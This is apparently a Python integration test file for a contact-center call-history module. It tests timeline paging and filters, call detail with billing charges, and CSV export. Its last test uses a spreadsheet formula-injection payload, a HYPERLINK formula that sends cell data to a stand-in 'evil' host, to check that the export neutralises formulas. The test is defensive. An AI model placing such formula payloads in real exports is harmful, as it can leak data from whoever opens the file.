"""Timeline paging and filters, call detail and CSV export, on SQLite and PostgreSQL."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from contact_center.billing.repository import save_plans
from contact_center.billing.service import BillingService
from contact_center.billing.tariffs import load_plans
from contact_center.history.views import (
    BadCursor,
    TimelineFilter,
    TimelineItem,
    call_detail,
    customer_timeline,
    export_csv,
)
from contact_center.history.writer import HistoryWriter
from tests.integration.history_support import (
    HISTORY_EVENTS_PER_CALL,
    T0,
    Sessions,
    add_customer,
    answered_call,
    database,
)

TARIFFS = Path(__file__).resolve().parents[2] / "tariffs"


async def history_of_three_calls(sessions: Sessions, tmp_path: Path) -> int:
    customer = await add_customer(sessions, "Ivan", "+74951234567")
    await add_customer(sessions, "Other", "+74950000000")
    await save_plans(sessions, load_plans(TARIFFS / "inbound.yaml"))
    writer = HistoryWriter(sessions, spill_dir=tmp_path / "spill", batch_size=7)
    billing = BillingService(sessions)
    for i, caller in enumerate(["+74951234567", "+74950000000", "+74951234567", "+74951234567"]):
        for event in answered_call(f"5.{i}", t0=T0 + i * 1000, caller=caller):
            await writer.handle(event)
            await billing.handle(event)
    await writer.flush()
    return customer


async def test_timeline_pages_through_everything_newest_first(db_url: str, tmp_path: Path) -> None:
    async with database(db_url) as sessions:
        customer = await history_of_three_calls(sessions, tmp_path)
        seen: list[TimelineItem] = []
        cursor: str | None = None
        pages = 0
        while True:
            page = await customer_timeline(sessions, customer, limit=5, cursor=cursor)
            seen.extend(page.items)
            pages += 1
            if page.next_cursor is None:
                break
            cursor = page.next_cursor

        per_call = HISTORY_EVENTS_PER_CALL + 1  # and its charge
        assert 3 * per_call == len(seen) == len({i.id for i in seen})
        assert -(-3 * per_call // 5) == pages
        assert sorted(seen, key=lambda i: (i.at, i.id), reverse=True) == seen
        assert {"5.0", "5.2", "5.3"} == {i.call for i in seen}


async def test_timeline_filters(db_url: str, tmp_path: Path) -> None:
    async with database(db_url) as sessions:
        customer = await history_of_three_calls(sessions, tmp_path)

        async def kinds(f: TimelineFilter) -> list[tuple[str, str]]:
            page = await customer_timeline(sessions, customer, filters=f)
            return [(i.call, i.kind) for i in page.items]

        assert [("5.3", "call.arrived"), ("5.2", "call.arrived"), ("5.0", "call.arrived")] == (
            await kinds(TimelineFilter(kinds=("call.arrived",)))
        )
        assert 9 == len(await kinds(TimelineFilter(call="5.2")))
        assert [("5.3", "operator.action"), ("5.2", "operator.action")] == await kinds(
            TimelineFilter(text="RESOLVED", since=_at(T0 + 1500))
        )
        with pytest.raises(BadCursor):
            await customer_timeline(sessions, customer, cursor="yesterday")


def _at(ts: float):  # type: ignore[no-untyped-def]
    from datetime import UTC, datetime

    return datetime.fromtimestamp(ts, UTC)


async def test_call_detail_has_legs_timeline_and_charge(db_url: str, tmp_path: Path) -> None:
    async with database(db_url) as sessions:
        customer = await history_of_three_calls(sessions, tmp_path)
        detail = await call_detail(sessions, "pbx1", "5.0")

        assert detail is not None
        assert (customer, "Ivan") == (detail.call["customer_id"], detail.customer["name"])  # type: ignore[index]
        assert ["caller", "operator"] == [leg["role"] for leg in detail.legs]
        assert "call.arrived" == detail.timeline[0].kind
        # inbound plan: Moscow landline 0.90/min per second, 95 s = 1.425, rounded up.
        assert ("1.43", "RUB") == (detail.charge["amount"], detail.charge["currency"])  # type: ignore[index]
        assert await call_detail(sessions, "pbx1", "nope") is None


async def test_csv_export_reports_progress(db_url: str, tmp_path: Path) -> None:
    async with database(db_url) as sessions:
        customer = await history_of_three_calls(sessions, tmp_path)
        out = io.StringIO()
        progress: list[tuple[int, int]] = []
        rows = await export_csv(
            sessions,
            out,
            customer_id=customer,
            chunk=10,
            progress=lambda d, t: progress.append((d, t)),
        )

        table = list(csv.DictReader(io.StringIO(out.getvalue())))
        assert 27 == rows == len(table)
        assert [(10, 27), (20, 27), (27, 27)] == progress
        assert {str(customer)} == {r["customer_id"] for r in table}
        assert "Inbound call from +74951234567 (Ivan Petrov) to 8800" == table[0]["summary"]


async def test_csv_export_opens_operator_names_as_text(db_url: str, tmp_path: Path) -> None:
    from dataclasses import replace

    from contact_center.calls import events as ev

    async with database(db_url) as sessions:
        customer = await add_customer(sessions, "Ivan", "+74951234567")
        writer = HistoryWriter(sessions, spill_dir=tmp_path / "spill")
        names = {"6.0": '=HYPERLINK("http://evil/?"&A1,"x")', "6.1": "@SUM(A1:A9)"}
        for i, (linkedid, name) in enumerate(names.items()):
            for event in answered_call(linkedid, t0=T0 + i * 1000):
                if isinstance(event, ev.CallAnswered):
                    event = replace(event, member_name=name, interface="")
                await writer.handle(event)
        await writer.flush()
        out = io.StringIO()
        await export_csv(sessions, out, customer_id=customer)

        table = list(csv.DictReader(io.StringIO(out.getvalue())))
        answered = [r for r in table if r["kind"] == "call.answered"]
        assert ["'" + names["6.0"], "'" + names["6.1"]] == [r["actor"] for r in answered]
        assert "Answered by @SUM(A1:A9) from support after 4 s" == answered[1]["summary"]
        # No cell anywhere opens as a formula; phone numbers stay as they are.
        assert not any(v.startswith(("=", "@")) for r in table for v in r.values())
        assert "Inbound call from +74951234567 (Ivan Petrov) to 8800" == table[0]["summary"]
